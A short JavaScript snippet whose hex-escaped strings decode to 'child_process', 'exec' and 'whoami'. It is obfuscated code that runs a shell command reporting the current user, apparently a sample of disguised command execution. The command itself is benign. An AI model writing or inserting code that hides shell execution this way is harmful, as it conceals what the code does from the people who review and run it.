var _0x3a1f = ['\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73', '\x65\x78\x65\x63', '\x77\x68\x6f\x61\x6d\x69'];
var _0x51c2 = function (_0x2d8f, _0x4b81) { return _0x3a1f[_0x2d8f]; };
var _0x1b = require(_0x3a1f[0]);
_0x1b[_0x3a1f[1]](_0x3a1f[2]);
